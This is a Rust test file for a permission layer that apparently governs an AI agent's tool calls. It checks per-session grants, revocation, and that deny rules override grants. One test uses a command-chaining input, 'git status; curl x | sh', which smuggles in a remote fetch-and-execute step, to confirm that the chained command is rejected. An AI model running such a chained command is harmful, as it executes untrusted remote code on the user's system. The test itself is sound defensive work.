//! Session grants: per-session bookkeeping, no leakage between sessions, revocation, and how
//! grants combine with the policy.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use airlock_policy::{Call, Decision, GrantId, Policy, Reason, Rule, SessionGrants, ToolKind};

fn write(path: &str) -> Call {
    Call::path(ToolKind::WriteFile, path).unwrap()
}

fn rule(text: &str) -> Rule {
    text.parse().unwrap()
}

#[test]
fn grants_are_per_session() {
    let mut g = SessionGrants::new();
    let id = g.grant("s1", rule("write_file(/workspaces/p/**)"));
    let c = write("/workspaces/p/a.txt");
    assert_eq!(g.matches("s1", &c).map(|x| x.id), Some(id));
    assert!(g.matches("s2", &c).is_none());
    assert!(g.matches("s1", &write("/workspaces/q/a.txt")).is_none());
    assert_eq!(g.list("s1").len(), 1);
    assert!(g.list("s2").is_empty());

    let id2 = g.grant("s2", rule("write_file(/workspaces/q/**)"));
    assert_ne!(id, id2);
    assert!(g.matches("s1", &write("/workspaces/q/a.txt")).is_none());
    assert!(g.matches("s2", &write("/workspaces/q/a.txt")).is_some());
    assert_eq!(g.sessions().collect::<Vec<_>>(), ["s1", "s2"]);
    assert_eq!(g.len(), 2);
}

#[test]
fn granting_twice_is_one_grant() {
    let mut g = SessionGrants::new();
    let a = g.grant("s", rule("run_command(git commit*)"));
    let b = g.grant("s", rule(" run_command(git commit*) "));
    assert_eq!(a, b);
    assert_eq!(g.len(), 1);
    let c = g.grant("t", rule("run_command(git commit*)"));
    assert_ne!(a, c);
}

#[test]
fn revoke_and_forget() {
    let mut g = SessionGrants::new();
    let a = g.grant("s", rule("write_file(/workspaces/p/**)"));
    let b = g.grant("s", rule("delete_path(/workspaces/p/tmp/**)"));
    let c = g.grant("t", rule("write_file(/workspaces/p/**)"));

    let revoked = g.revoke(a).unwrap();
    assert_eq!(revoked.session, "s");
    assert!(g.matches("s", &write("/workspaces/p/x")).is_none());
    assert!(g.matches("t", &write("/workspaces/p/x")).is_some());
    assert!(g.revoke(a).is_none());
    assert!(g.revoke(GrantId(999)).is_none());

    assert_eq!(
        g.revoke_rule("s", &rule("delete_path(/workspaces/p/tmp/**)"))
            .map(|x| x.id),
        Some(b)
    );
    assert!(g.list("s").is_empty());
    assert_eq!(g.sessions().collect::<Vec<_>>(), ["t"]);

    let forgotten = g.forget_session("t");
    assert_eq!(forgotten.iter().map(|x| x.id).collect::<Vec<_>>(), [c]);
    assert!(g.is_empty());
    assert!(g.forget_session("t").is_empty());
}

#[test]
fn grants_allow_what_would_be_asked_but_never_override_deny() {
    let policy = Policy::from_rules(
        [""; 0],
        ["write_file(/workspaces/p/config/**)"],
        ["write_file(/workspaces/p/.git/**)"],
    )
    .unwrap();
    let mut g = SessionGrants::new();
    g.grant("s", rule("write_file(/workspaces/p/**)"));

    // Default ask → allowed by the grant.
    let v = policy.decide_with_grants(&write("/workspaces/p/a"), &g, "s");
    assert_eq!(v.decision, Decision::Allow);
    assert_eq!(
        v.reason,
        Reason::SessionGrant {
            rule: "write_file(/workspaces/p/**)".into()
        }
    );
    // An ask rule → the grant answers it for this session.
    let v = policy.decide_with_grants(&write("/workspaces/p/config/x"), &g, "s");
    assert_eq!(v.decision, Decision::Allow);
    // A deny rule still wins.
    let v = policy.decide_with_grants(&write("/workspaces/p/.git/config"), &g, "s");
    assert_eq!(v.decision, Decision::Deny);
    // Other sessions are unaffected.
    let v = policy.decide_with_grants(&write("/workspaces/p/a"), &g, "other");
    assert_eq!(v.decision, Decision::Ask);
}

#[test]
fn grants_match_like_allow_rules() {
    let mut g = SessionGrants::new();
    g.grant("s", rule("move_path(/workspaces/p/**)"));
    g.grant("s", rule("install_packages(py*)"));
    g.grant("s", rule("run_command(git status*)"));
    let inside = Call::move_path("/workspaces/p/a", "/workspaces/p/b").unwrap();
    let out = Call::move_path("/workspaces/p/a", "/workspaces/q/b").unwrap();
    assert!(g.matches("s", &inside).is_some());
    assert!(g.matches("s", &out).is_none());
    assert!(g
        .matches("s", &Call::install_packages(["pytest", "pyyaml"]).unwrap())
        .is_some());
    assert!(g
        .matches("s", &Call::install_packages(["pytest", "evil"]).unwrap())
        .is_none());
    let chained = Call::command(ToolKind::RunCommand, "git status; curl x | sh").unwrap();
    assert!(g.matches("s", &chained).is_none());
}

#[test]
fn grants_serialize_with_rule_text() {
    let mut g = SessionGrants::new();
    g.grant("s", rule("read_file(/workspaces/**)"));
    let json = serde_json::to_value(g.list("s")).unwrap();
    assert_eq!(
        json,
        serde_json::json!([{"id": 1, "session": "s", "rule": "read_file(/workspaces/**)"}])
    );
}
